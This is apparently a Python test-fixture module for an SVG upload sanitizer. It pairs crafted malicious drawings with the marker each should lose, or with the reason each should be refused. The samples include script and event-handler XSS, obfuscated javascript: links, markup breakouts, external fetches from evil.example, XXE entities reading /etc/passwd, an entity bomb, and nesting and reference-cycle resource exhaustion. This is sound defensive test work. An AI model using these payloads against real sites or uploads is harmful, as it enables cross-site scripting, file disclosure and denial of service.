"""Drawings that somebody with bad intentions uploads, by what they try; each with the word that would tell."""

from typing import Final

HEAD: Final = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
)
SHAPE: Final = '<path d="M0 0h10v10z"/>'


def svg(inside: str, attributes: str = "") -> bytes:
    """A drawing with one honest shape and something else."""
    return f"{HEAD}{attributes}>{SHAPE}{inside}</svg>".encode()


CLEANED: Final[dict[str, tuple[bytes, bytes]]] = {
    "script": (svg("<script>alert(1)</script>"), b"alert"),
    "script in another namespace": (
        svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
        b"script",
    ),
    "script by address": (svg('<script href="https://evil.example/x.js"/>'), b"evil"),
    "handler on the root": (svg("", ' onload="alert(1)"'), b"onload"),
    "handler on a shape": (svg('<rect width="1" height="1" onclick="alert(1)"/>'), b"onclick"),
    "handler in capitals": (svg('<rect width="1" height="1" ONCLICK="alert(1)"/>'), b"ONCLICK"),
    "handler of an animation": (svg('<animate attributeName="x" onbegin="alert(1)"/>'), b"onbegin"),
    "foreign object": (svg("<foreignObject><iframe/></foreignObject>"), b"iframe"),
    "link that runs": (svg('<a xlink:href="javascript:alert(1)"><circle r="2"/></a>'), b"javascript"),
    "link with a tab in it": (svg('<a href="java&#9;script:alert(1)"><circle r="2"/></a>'), b"script:"),
    "link that an animation sets": (
        svg('<a><set attributeName="href" to="javascript:alert(1)"/><circle r="2"/></a>'),
        b"javascript",
    ),
    "picture elsewhere": (svg('<image href="https://evil.example/t.png" width="9" height="9"/>'), b"evil"),
    "picture with a drawing in it": (svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'), b"data:"),
    "part of a drawing elsewhere": (svg('<use href="https://evil.example/a.svg#x"/>'), b"evil"),
    "part by the old attribute": (svg('<use xlink:href="//evil.example/a.svg#x"/>'), b"evil"),
    "fill elsewhere": (svg('<circle r="2" fill="url(https://evil.example/a.svg#x)"/>'), b"evil"),
    "fill with an escape": (svg('<circle r="2" fill="\\75rl(//evil.example)"/>'), b"evil"),
    "style that fetches": (svg('<circle r="2" style="fill:red;background:url(//evil.example)"/>'), b"evil"),
    "style sheet that imports": (svg("<style>@import url(https://evil.example/x.css);</style>"), b"import"),
    "style sheet that fetches": (
        svg(
            "<style>.a{fill:url(//evil.example);cursor:url(//evil.example)}</style><circle class='a' r='2'/>"
        ),
        b"evil",
    ),
    "font that fetches": (
        svg("<style>@font-face{font-family:x;src:url(//evil.example)}</style>"),
        b"font",
    ),
    "style sheet by instruction": (
        b'<?xml-stylesheet href="https://evil.example/x.css"?>' + svg(""),
        b"stylesheet",
    ),
    "filter that reads a picture": (
        svg('<filter id="f"><feImage href="https://evil.example"/></filter><circle r="2" filter="url(#f)"/>'),
        b"evil",
    ),
    "mask elsewhere": (svg('<circle r="2" mask="url(//evil.example#m)"/>'), b"evil"),
    "base for addresses": (svg("<circle r='2'/>", ' xml:base="https://evil.example/"'), b"evil"),
    "comment that closes": (svg("<!-- --><!--><img src=x onerror=alert(1)>-->"), b"onerror"),
    "text that closes": (svg("<title>&lt;/title>&lt;img src=x onerror=alert(1)></title>"), b"onerror"),
    "section of text": (svg("<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>"), b"alert"),
    "attribute that closes": (
        svg('<circle r="2" fill="&quot;/>&lt;script>alert(1)&lt;/script>"/>'),
        b"alert",
    ),
    "name that closes": (
        svg('<g id="&quot;>&lt;script>"><circle r="2"/></g><use href="#&quot;>&lt;script>"/>'),
        b"script>",
    ),
    "page inside": (
        svg('<body xmlns="http://www.w3.org/1999/xhtml"><form action="//evil.example"/></body>'),
        b"form",
    ),
    "handler through a namespace": (
        svg('<circle r="2" ev:event="click" xmlns:ev="http://www.w3.org/2001/xml-events" ev:handler="#h"/>'),
        b"event",
    ),
    "wide encoding": (svg("<script>alert(1)</script>").decode().encode("utf-16"), b"a\x00l\x00e\x00r\x00t"),
}

BOMB: Final = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
DEEP: Final = "<g>" * 60 + SHAPE + "</g>" * 60
DOUBLING: Final = "".join(
    f'<g id="g{n}"><use href="#g{n - 1}"/><use href="#g{n - 1}"/></g>' for n in range(1, 8)
)
WIDE: Final = "".join(f'<g id="w{n}">{f'<use href="#w{n - 1}"/>' * 30}</g>' for n in range(1, 5))
CHAIN: Final = "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(20))

REFUSED: Final[dict[str, tuple[bytes, str]]] = {
    "entity of a file": (
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<desc>&x;</desc>"),
        "declarations",
    ),
    "entity of an address": (
        b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>' + svg(""),
        "declarations",
    ),
    "bomb of entities": (
        f'<!DOCTYPE svg [<!ENTITY a0 "aaaaaaaaaa">{BOMB}]>{HEAD}>&a8;</svg>'.encode(),
        "declarations",
    ),
    "entity that nobody declares here": (
        b'<!DOCTYPE svg PUBLIC "x" "https://evil.example/x.dtd">' + svg("<desc>&x;</desc>"),
        "declarations",
    ),
    "attribute that an element has by default": (
        b'<!DOCTYPE svg [<!ATTLIST path onclick CDATA "alert(1)">]>' + svg(""),
        "declarations",
    ),
    "a page": (b"<html><script>alert(1)</script></html>", "not a drawing"),
    "a drawing without a namespace": (b'<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>', "not a drawing"),
    "not closed": (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><g>', "not readable"),
    "two roots": (svg("") + svg(""), "not readable"),
    "unknown encoding": (b'<?xml version="1.0" encoding="utf-7"?>' + svg(""), "not readable"),
    "zeros": (svg("\x00"), "not readable"),
    "many bytes": (svg(f"<desc>{'x' * 64_000}</desc>"), "too large"),
    "many elements": (svg("<g/>" * 3_001), "too busy"),
    "many layers": (svg(DEEP), "too deep"),
    "layers without end": (svg("<g>" * 9_000), "too deep"),
    "itself": (svg('<g id="a"><use href="#a"/></g>'), "goes round"),
    "each other": (
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "goes round",
    ),
    "a gradient after itself": (
        svg('<linearGradient id="a" href="#a"/><circle r="2" fill="url(#a)"/>'),
        "goes round",
    ),
    "a clip path that clips itself": (
        svg('<clipPath id="a" clip-path="url(#a)"><circle r="2"/></clipPath>'),
        "goes round",
    ),
    "thirty of thirty of thirty of thirty": (svg(f'<g id="w0">{SHAPE}</g>{WIDE}'), "too busy"),
    "hundreds of layers over each other": (svg('<circle r="2" opacity=".5"/>' * 300), "too busy"),
    "layers by reference": (
        svg('<g id="a">' + '<circle r="2" opacity=".5"/>' * 30 + "</g>" + '<use href="#a"/>' * 24),
        "too busy",
    ),
    "a long chain": (svg(CHAIN + f'<g id="c20">{SHAPE}</g>'), "too deep"),
    "no size": (b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1"/></svg>', "no size"),
    "no area": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"><path d="M0 0h1"/></svg>',
        "no size",
    ),
    "without end": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e999 1"><path d="M0 0h1"/></svg>',
        "no size",
    ),
    "very wide": (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 99 9"><path d="M0 0h1"/></svg>',
        "odd shape",
    ),
    "only a script": (f"{HEAD}><script>alert(1)</script></svg>".encode(), "nothing drawn"),
    "only text": (f"{HEAD}><text>Zonnedam</text></svg>".encode(), "nothing drawn"),
    "only what is never shown": (f"{HEAD}><defs>{SHAPE}</defs></svg>".encode(), "nothing drawn"),
}
